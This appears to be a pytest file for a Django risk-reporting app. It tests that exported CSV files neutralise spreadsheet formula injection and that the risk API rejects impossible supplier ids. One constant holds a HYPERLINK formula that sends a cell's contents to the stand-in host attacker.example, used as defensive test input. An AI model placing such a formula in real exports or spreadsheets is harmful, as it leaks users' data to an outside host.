"""The report's CSV files are formula-safe, and the risk API refuses impossible supplier ids as fields."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone

from conduct.apps.accounts.actors import SYSTEM
from conduct.apps.accounts.roles import Role
from conduct.apps.reports.risks import risk_create
from conduct.apps.reports.transparency.figures import compute_figures
from conduct.apps.reports.transparency.gather import report_inputs
from conduct.apps.reports.transparency.render import write_files
from tests.factories import OrgUnitFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?x="&A1,"Open")'


def test_the_report_csv_files_carry_formulas_as_text(tmp_path: Path) -> None:
    risk_create(
        actor=SYSTEM,
        code="formula-risk",
        org_unit=OrgUnitFactory(),
        title=FORMULA,
        dimension="product",
        rights=["privacy"],
        people_affected="@everyone",
        scale=3,
        scope=3,
        irremediability=3,
        likelihood=3,
    )
    figures = compute_figures(report_inputs(actor=SYSTEM, year=timezone.localdate().year))
    write_files(figures, tmp_path, pdf=False)
    cells = [
        cell
        for path in sorted((tmp_path / "data").glob("*.csv"))
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("ids", [[99999999999999999999], [0], [-1]])
def test_a_risk_with_an_impossible_supplier_id_is_a_field_error(ids: list[int]) -> None:
    client = Client()
    client.force_login(UserFactory(role=Role.ADMIN))
    unit = OrgUnitFactory()
    body = {
        "code": "overflow-risk",
        "title": "Overflow",
        "dimension": "product",
        "rights": ["privacy"],
        "people_affected": "Users",
        "org_unit": unit.code,
        "scope_suppliers": ids,
        "scale": 1,
        "scope": 1,
        "irremediability": 1,
        "likelihood": 1,
    }
    response = client.post("/api/v1/risks", json.dumps(body), content_type="application/json")
    assert response.status_code == 422, response.content
    assert "scope_suppliers" in json.dumps(response.json()["error"]["fields"])
